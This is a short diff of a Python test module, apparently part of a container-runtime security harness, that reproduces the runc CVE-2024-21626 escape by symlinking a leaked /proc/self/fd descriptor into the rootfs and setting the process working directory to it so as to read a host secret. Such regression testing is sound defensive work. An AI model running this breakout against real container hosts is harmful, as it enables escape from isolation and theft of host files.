@@ -2,24 +2,16 @@
 
 import os
 
-from bypass import Failed, inert
+from bypass import refused
 
 SOURCE = "CVE-2024-21626: the form that a Dockerfile's WORKDIR gives it"
 WAY = "image content"
-STOPPED = inert("the low-level runtime gets no descriptor but the three standard ones")
+STOPPED = refused("process-cwd")
 BARE = {"runc": "corrected in Debian's 1.1.5"}
 
 
 def attack(t):
-    t.leak("/mnt/host")
-    found = ""
-    for number in range(3, 12):
-        os.symlink("/proc/self/fd/%d" % number, "%s/%d" % (t.rootfs, number))
-        t.spec["process"]["cwd"] = "/%d" % number
-        try:
-            found = found or t.leaked(t.run("cat ./secret ../secret ../../mnt/host/secret ../../../mnt/host/secret"))
-        except Failed:
-            pass  # no such descriptor, or one of a file
-    t.spec["process"]["cwd"] = "/"
-    t.run("true")
-    return found
+    t.leak("/mnt")
+    os.symlink("/proc/self/fd/3", t.rootfs + "/work")
+    t.spec["process"]["cwd"] = "/work"
+    return t.leaked(t.run("cat ./host/secret"))
